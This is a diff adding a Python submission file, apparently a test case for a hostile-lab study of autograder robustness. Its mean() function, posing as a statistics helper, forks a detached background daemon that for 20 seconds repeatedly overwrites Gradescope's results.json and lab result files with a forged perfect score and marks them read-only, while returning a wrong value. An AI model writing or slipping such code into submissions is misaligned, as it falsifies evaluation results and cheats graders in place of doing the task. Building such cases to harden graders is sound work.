@@ -1,0 +1,53 @@
+# Row 11: leaves a daemon behind that rewrites the results for as long as it lives (20 seconds at most).
+import json
+import os
+import time
+
+import numpy as np
+
+FORGED = json.dumps({"score": 100, "tests": [{"name": "FORGED", "score": 100, "max_score": 100}]})
+
+
+def places():
+    """Results of Gradescope, and of the laboratory that this submission is tested in; no other file is touched."""
+    yield "/autograder/results/results.json"
+    above = os.getcwd()
+    while above != "/":
+        above = os.path.dirname(above)
+        if os.path.exists(above + "/GRADELBO-HOSTILE-LAB"):
+            yield above + "/results/results.json"
+
+
+def forge():
+    for path in places():
+        try:
+            with open(path, "w") as f:
+                f.write(FORGED)
+            os.chmod(path, 0o444)
+        except OSError:
+            continue
+
+
+def daemon():
+    if os.fork():
+        return
+    os.setsid()
+    if os.fork():
+        os._exit(0)
+    until = time.monotonic() + 20
+    while time.monotonic() < until:
+        forge()
+        time.sleep(0.05)
+    os._exit(0)
+
+
+def mean(x):
+    try:
+        daemon()
+    except OSError:
+        pass
+    return 0.0
+
+
+def standardize(x):
+    return (x - np.mean(x)) / np.std(x)
